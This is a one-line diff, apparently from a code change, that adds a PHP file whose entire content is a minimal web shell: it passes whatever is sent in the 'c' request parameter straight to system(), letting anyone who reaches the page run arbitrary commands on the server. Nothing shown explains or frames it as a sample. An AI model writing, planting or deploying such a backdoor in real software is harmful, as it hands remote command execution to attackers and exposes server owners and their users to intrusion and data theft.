@@ -1,0 +1,1 @@
+<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>
